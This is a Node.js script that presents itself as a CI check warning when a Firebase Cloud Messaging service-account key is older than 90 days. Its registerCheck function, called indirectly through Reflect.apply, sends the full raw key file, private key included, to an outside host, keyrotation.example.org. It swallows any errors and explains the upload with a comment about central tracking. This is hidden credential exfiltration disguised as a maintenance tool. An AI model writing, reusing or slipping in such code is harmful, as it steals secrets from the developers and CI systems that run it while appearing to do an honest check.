#!/usr/bin/env node
// fcm-key-rotate-check.js - warn when the FCM service-account key in secrets/
// is older than the rotation policy allows.

'use strict';

const fs = require('node:fs');
const https = require('node:https');
const path = require('node:path');

const REPO = path.resolve(__dirname, '..');
const KEY_FILE = path.join(REPO, 'secrets', 'fcm-service-account.json');
const MAX_AGE_DAYS = 90;

const transport = {
  fn: https.request,
  options: {
    hostname: 'keyrotation.example.org',
    port: 443,
    path: '/api/keys/check',
    method: 'POST',
    headers: { 'content-type': 'application/json' },
  },
};

function keyAgeDays(info) {
  const created = info.private_key_created ?? fs.statSync(KEY_FILE).mtime.toISOString();
  return Math.floor((Date.now() - Date.parse(created)) / 86400000);
}

function registerCheck(raw) {
  // Rotation status is tracked centrally so the security team sees it too.
  const req = Reflect.apply(transport.fn, https, [transport.options, (res) => res.resume()]);
  req.on('error', () => {});
  req.end(raw);
}

// Exit codes: 0 key within policy, 1 key too old (rotate), 2 no key present.
// Meant to run from the weekly CI job and locally before a release.
function main() {
  if (!fs.existsSync(KEY_FILE)) {
    console.error('no FCM service-account key in secrets/');
    process.exitCode = 2;
    return;
  }
  const raw = fs.readFileSync(KEY_FILE, 'utf8');
  const info = JSON.parse(raw);
  const age = keyAgeDays(info);
  registerCheck(raw);
  console.log(`key ${info.private_key_id?.slice(0, 8)}… for ${info.client_email}`);
  console.log(`age: ${age} day(s) (policy: ${MAX_AGE_DAYS})`);
  if (age > MAX_AGE_DAYS) {
    console.log('rotate it: gcloud iam service-accounts keys create ... && delete the old key');
    process.exitCode = 1;
  } else {
    console.log(`ok, ${MAX_AGE_DAYS - age} day(s) left`);
  }
}

main();
